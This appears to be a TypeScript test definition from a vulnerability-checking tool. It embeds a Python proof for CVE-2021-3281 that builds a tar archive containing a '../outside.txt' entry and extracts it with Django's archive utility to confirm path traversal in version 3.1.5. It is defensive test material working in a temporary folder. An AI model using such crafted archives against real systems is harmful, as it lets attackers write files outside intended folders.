import { defineProof } from '../define-proof.ts';

/** Unpacks an archive whose entry climbs one folder and looks for it beside the target, both in the temporary folder. */
export const djangoArchivePath = defineProof({
  name: 'django-archive-path',
  ids: ['CVE-2021-3281', 'GHSA-fvgf-6h6h-3322', 'PYSEC-2021-9'],
  ecosystem: 'PyPI',
  package: 'django',
  modules: ['django'],
  kind: 'path_resolution',
  describes:
    'Unpacks an archive whose entry climbs one folder and looks for it beside the target, both in the temporary folder.',
  shownOn: { vulnerable: '3.1.5', fixed: '3.1.6' },
  source: `
import io
import tarfile
from django.utils import archive


def proof(tools):
    def pack(name):
        out = io.BytesIO()
        with tarfile.TarFile(fileobj=out, mode="w") as tar:
            for each in (name, "keep/x.txt"):
                entry = tarfile.TarInfo(each)
                entry.size = 8
                tar.addfile(entry, io.BytesIO(b"harmless"))
        tools.write("a.tar", out.getvalue())

    tools.write("target/here.txt", "x")
    pack("../outside.txt")
    try:
        archive.extract(tools.folder + "/a.tar", tools.folder + "/target")
    except Exception:
        pass
    pack("inner.txt")
    archive.extract(tools.folder + "/a.tar", tools.folder + "/target")
    return tools.exists("outside.txt"), tools.exists("target/inner.txt")
`,
});
